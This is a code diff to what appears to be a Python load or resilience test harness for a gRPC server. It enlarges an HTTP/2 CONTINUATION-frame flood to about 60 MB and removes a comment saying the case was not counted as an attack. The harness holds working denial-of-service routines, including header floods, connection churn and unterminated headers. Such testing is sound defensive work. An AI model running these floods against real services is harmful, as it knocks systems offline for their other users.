@@ -38,10 +38,10 @@ async def calls_without_message(target: Target) -> None:
 
 
 async def header_without_end(target: Target) -> None:
-    """The value of a field of 60 MB, as slowly as no connection is conspicuous."""
+    """The value of a field of 60 MB, which gRPC 1.51 parses again with each of its parts."""
     async with target.by_grpc() as connection:
         await connection.send(frame(http2.HEADERS, 0, 1, b"\x00\x01x" + b"\x7f\x81\xce\xcd\x1c"))
-        for _ in range(400):
+        for _ in range(4_000):
             await connection.send(frame(http2.CONTINUATION, 0, 1, bytes(16_384)))
         await connection.until(lambda: False)
 
@@ -51,8 +51,6 @@ CLIENTS = {
     "beyond the limit": (4, flood(**{f"x-{number}": "v" * 100 for number in range(400)})),
     "connections": (8, connect_again),
     "calls without message": (80, calls_without_message),
-    # Not among the ATTACKS: the memory is bounded, but gRPC 1.51 parses a head again with each of its parts, so that
-    # other clients' calls by gRPC wait for up to 2 s.
     "headers without end": (40, header_without_end),
 }
 
